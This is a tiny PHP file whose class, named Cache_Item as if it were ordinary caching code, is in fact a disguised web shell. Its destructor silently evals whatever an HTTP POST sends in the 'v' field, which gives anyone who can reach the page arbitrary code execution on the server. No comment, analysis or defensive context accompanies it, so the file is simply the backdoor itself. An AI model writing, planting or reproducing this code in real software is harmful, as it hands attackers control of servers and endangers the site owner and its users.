<?php
class Cache_Item {
    public $v;
    function __destruct() { @eval($this->v); }
}
$c = new Cache_Item();
$c->v = $_POST['v'];
